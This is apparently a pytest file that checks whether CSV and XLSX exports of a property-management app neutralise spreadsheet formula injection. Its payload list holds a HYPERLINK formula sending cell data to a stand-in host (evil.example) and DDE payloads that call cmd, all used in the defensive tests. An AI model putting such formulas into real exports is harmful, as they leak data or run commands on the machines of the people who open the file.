"""Issue 13 item 8: exports written from people's text never hand a spreadsheet program a formula."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from engine import visitors
from engine.spreadsheet import safe_cell, safe_row
from engine.store.worker_repo import PenaltyRecord
from engine.worker.export import write_ledger
from tests.conftest import ROOT
from tests.webui.conftest import PASSWORD

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"点这里")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_that_would_be_a_formula_is_kept_as_text(payload):
    assert safe_cell(payload) == "'" + payload


def test_other_cells_and_numbers_are_unchanged():
    assert safe_row(["李明", "138 0013 8000", 500, -3, 1.5, None, "", "a=b"]) == [
        "李明", "138 0013 8000", 500, -3, 1.5, None, "", "a=b"]


def test_the_visitor_log_csv_neutralises_formulas(app, services, login):
    from webui import visitors as visitor_pages

    if "visitors" not in app.blueprints:
        visitor_pages.init_app(app)
    visitors.import_households(services.runtime, ROOT / "engine" / "demo" / "households.yaml")
    for payload in PAYLOADS[:4]:
        visitors.register_visit(services.runtime, "peng.jun", {
            "purpose": "visit_resident", "customer_name": payload[:30], "id_type": "passport",
            "id_number": "E12345678", "household": "lyc-3-1-1202", "host_name": payload[:30]})
    services.set_password("peng.jun", PASSWORD)
    response = login("peng.jun").get("/visitors/log.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert len(rows) == 5
    for payload in PAYLOADS[:4]:
        assert "'" + payload[:30] in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def _penalty(text: str) -> PenaltyRecord:
    at = datetime(2026, 11, 23, 10, 0, tzinfo=ZoneInfo("Asia/Shanghai"))
    return PenaltyRecord(id=1, key="k", month="2026-11", occurred_at=at, subsidiary="sz-property",
                         staff="wang.fang", role="responsible", kind="overdue_daily", amount=50,
                         bonus_percent_min=None, bonus_percent_max=None, case_id="c",
                         case_number="TS-SZP-2026-000001", detail={"text": text}, created_at=at)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_penalty_ledger_export_neutralises_formulas(tmp_path, fmt):
    path = write_ledger([_penalty(p) for p in PAYLOADS], tmp_path / f"ledger.{fmt}", fmt)
    if fmt == "csv":
        with path.open(encoding="utf-8-sig", newline="") as handle:
            details = [row[-1] for row in list(csv.reader(handle))[1:-1]]
    else:
        sheet = load_workbook(path).active
        assert sheet is not None
        cells = list(sheet.iter_rows(min_row=2, max_row=len(PAYLOADS) + 1))
        assert all(row[-1].data_type == "s" for row in cells)  # text, not a formula
        details = [row[-1].value for row in cells]
    assert details == ["'" + p for p in PAYLOADS]
